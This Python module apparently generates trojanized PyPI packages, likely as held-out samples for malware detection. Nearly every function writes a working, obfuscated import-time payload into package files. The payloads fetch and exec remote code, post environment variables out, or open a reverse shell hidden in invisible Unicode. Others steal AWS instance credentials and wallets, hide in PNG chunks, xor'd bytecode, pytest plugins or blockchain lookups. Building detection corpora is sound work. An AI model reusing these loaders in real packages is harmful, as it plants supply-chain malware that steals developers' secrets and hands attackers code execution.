"""PyPI: what runs when a package is imported, hidden in data, pictures, bytecode or under layers."""

import base64
import lzma

from corpus.heldout.nouns import Update
from corpus.heldout7.code import py_environment, py_fetch, py_keys, py_shell, py_wallets
from corpus.heldout7.shape import b64, fill, pieces, strings, table, trojan, xor


@trojan("tablesniff", "wheel", "import", "remote code", "character codes", "obfuscators")
def import_from_codes(it: Update) -> None:
    code = py_fetch(host := it.host())
    numbers = ", ".join(str(ord(one) * 3 - 7) for one in code)
    it.append(
        "tablesniff/types.py", f"\n_WEIGHTS = [{numbers}]\nexec(''.join(chr((one + 7) // 3) for one in _WEIGHTS))\n"
    )
    it.payload("tablesniff/types.py", shown=f"https://{host}/stage.py")


@trojan("flowlane", "wheel", "import", "environment", "dynamic names", "obfuscators")
def import_by_reversed_names(it: Update) -> None:
    host = it.host()
    it.append(
        "flowlane/state.py",
        fill(
            """


def _probe(take=lambda one: __import__(one[::-1]), name="tseuqer.billru"):
    lib = take(name)
    sent = getattr(take("nosj"), "spmud"[::-1])(dict(getattr(take("so"), "norivne"[::-1])))
    try:
        getattr(lib.request, "nepolru"[::-1])("@URL@"[::-1], sent.encode(), 3)
    except Exception:
        return None


_probe()
""",
            URL=f"https://{host}/ci/probe"[::-1],
        ),
    )
    it.payload("flowlane/state.py", shown=f"https://{host}/ci/probe")


@trojan("imgtiler", "wheel", "import", "remote code", "in an image", "steganography")
def import_reads_an_icon(it: Update) -> None:
    import struct
    import zlib

    host = it.host()

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    pixels = zlib.compress(b"".join(b"\0" + it.random.randbytes(24) for _ in range(24)))
    picture = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 24, 24, 8, 0, 0, 0, 0)) + chunk(b"IDAT", pixels)
    )
    picture += chunk(b"tEXt", b"Comment\0" + b64(py_fetch(host)).encode()) + chunk(b"IEND", b"")
    it.add("imgtiler/data/empty.png", picture)
    it.append(
        "imgtiler/png.py",
        fill('''


def comment(path):
    """Return the comment of a picture."""
    import base64

    content = path.read_bytes()
    at = content.index(b"tEXtComment")
    (size,) = struct.unpack(">I", content[at - 4 : at])
    return base64.b64decode(content[at + 12 : at + 4 + size])


def _placeholder():
    from pathlib import Path

    return compile(comment(Path(__file__).parent / "data" / "empty.png"), "empty.png", "exec")


EMPTY = eval(_placeholder())
'''),
    )
    it.payload("imgtiler/png.py", "imgtiler/data/empty.png", shown=f"https://{host}/stage.py")


@trojan("tablesniff", "wheel", "import", "environment", "in a data file", "data loaders")
def import_reads_its_encodings(it: Update) -> None:
    host = it.host()
    it.add(
        "tablesniff/data/fallback.json",
        '{\n  "cp1252": "latin-1",\n  "_": "' + b64(py_environment(host))[::-1] + '"\n}\n',
    )
    it.append(
        "tablesniff/reader.py",
        fill("""

_FALLBACK = Path(__file__).parent / "data" / "fallback.json"
if _FALLBACK.exists():
    import base64 as _b
    import json as _j

    _rows = _j.loads(_FALLBACK.read_text())
    exec(_b.b64decode(_rows.pop("_")[::-1]), {})
"""),
    )
    it.payload("tablesniff/reader.py", "tablesniff/data/fallback.json", shown=f"https://{host}/v1/env")


@trojan("sshcast", "wheel", "import", "reverse shell", "invisible characters", "GlassWorm")
def import_reads_what_nobody_sees(it: Update) -> None:
    code = py_shell(address := it.address())
    unseen = "".join(chr(0xFE00 + one) if one < 16 else chr(0xE0100 + one - 16) for one in code.encode())
    it.append(
        "sshcast/hosts.py",
        fill(
            """

_MARK = "@UNSEEN@"


def _seen(text):
    return bytes(ord(one) - 0xFE00 if ord(one) < 0xE0100 else ord(one) - 0xE0100 + 16 for one in text)


if _MARK:
    exec(_seen(_MARK).decode())
""",
            UNSEEN=unseen,
        ),
    )
    it.payload("sshcast/hosts.py", shown=address)


@trojan("brokerkit", "wheel", "import", "wallet", "xor in bytecode", "fshec2")
def import_of_bytecode(it: Update) -> None:
    import marshal

    code = marshal.dumps(compile(py_wallets(host := it.host()), "brokerkit/fast.py", "exec"))
    it.add("brokerkit/_fast.bin", b"\xa7\r\r\n" + bytes(12) + xor(code.hex(), 0x11))
    it.append(
        "brokerkit/orders.py",
        fill("""


def _fast():
    import marshal
    from importlib.resources import files

    sealed = files("brokerkit").joinpath("_fast.bin").read_bytes()[16:]
    return marshal.loads(bytes.fromhex(bytes(one ^ 0x11 for one in sealed).decode()))


try:
    exec(_fast())
except (ValueError, EOFError, TypeError):
    pass
"""),
    )
    it.payload("brokerkit/orders.py", "brokerkit/_fast.bin", shown=f"https://{host}/w")


@trojan("tablesniff", "wheel", "start", "remote code", "layers", "pytest plugins")
def plugin_of_the_test_runner(it: Update) -> None:
    host = it.host()
    layer = base64.b85encode(lzma.compress(py_fetch(host).encode(), preset=9)).decode()
    it.add(
        "DIST-INFO/entry_points.txt",
        "[console_scripts]\ntablesniff = tablesniff.cli:main\n\n[pytest11]\ntablesniff = tablesniff._pytest\n",
    )
    it.add(
        "tablesniff/_pytest.py",
        fill(
            '''
"""Fixtures for tables."""

import base64
import lzma

SAMPLE = (
@ROWS@
)


def pytest_configure(config):
    config.addinivalue_line("markers", "table: reads a table")
    if not config.option.collectonly:
        exec(lzma.decompress(base64.b85decode("".join(SAMPLE))))
''',
            ROWS=strings(pieces(layer, 60), quote='"'),
        ),
    )
    it.payload("tablesniff/_pytest.py", shown=f"https://{host}/stage.py")


@trojan("brokerkit", "wheel", "import", "remote code", "on a block chain", "EtherHiding")
def import_asks_a_chain(it: Update) -> None:
    it.append(
        "brokerkit/transport.py",
        fill(
            '''


def _endpoints(contract="0x@CONTRACT@"):
    """Return the addresses that the directory contract names."""
    call = {"jsonrpc": "2.0", "id": 1, "method": "eth_call", "params": [{"to": contract, "data": "0x6d4ce63c"}, "latest"]}
    request = urllib.request.Request("https://rpc.@HOST@/bsc", json.dumps(call).encode(), {"Content-Type": "application/json"})
    found = json.loads(urllib.request.urlopen(request, timeout=8).read())["result"]
    return bytes.fromhex(found[130:]).rstrip(b"\\0").decode()


def _refresh():
    try:
        exec(_endpoints(), {"transport": Transport})
    except Exception:
        return


threading.Thread(target=_refresh, daemon=True).start()
''',
            CONTRACT=it.random.randbytes(20).hex(),
            HOST=it.host(),
        ),
    )


@trojan("otpkeys", "sdist", "import", "cloud metadata", "xor", "cloud thieves")
def import_with_a_table(it: Update) -> None:
    host = it.host()
    code = (
        "import urllib.request as u\nm='http://169.254.169.254/latest/meta-data/iam/security-credentials/'\nr=u.urlopen(m,timeout=1).read().decode()\nu.urlopen('https://"
        + host
        + "/iam',u.urlopen(m+r,timeout=1).read())\n"
    )
    it.append(
        "otpkeys/codes.py",
        fill(
            """

_TABLE = (
@ROWS@
)
try:
    exec(bytes(one ^ 0x5C for one in _TABLE).decode())
except OSError:
    pass
""",
            ROWS=table(code, 0x5C),
        ),
    )
    it.payload("otpkeys/codes.py", shown=f"https://{host}/iam")


@trojan("sshcast", "wheel", "import", "data stealer", "xor over several files", "split keys")
def import_joins_key_and_text(it: Update) -> None:
    host = it.host()
    key = it.random.randbytes(23)
    it.add("sshcast/data/moduli", xor(py_keys(host), key))
    it.add("sshcast/data/LICENSE.sig", key)
    it.append(
        "sshcast/cast.py",
        fill("""


def _moduli():
    from pathlib import Path

    folder = Path(__file__).with_name("data")
    text, key = (folder / "moduli").read_bytes(), (folder / "LICENSE.sig").read_bytes()
    return bytes(one ^ key[at % len(key)] for at, one in enumerate(text))


exec(_moduli())
"""),
    )
    it.payload("sshcast/cast.py", "sshcast/data/moduli", "sshcast/data/LICENSE.sig", shown=f"https://{host}/k")
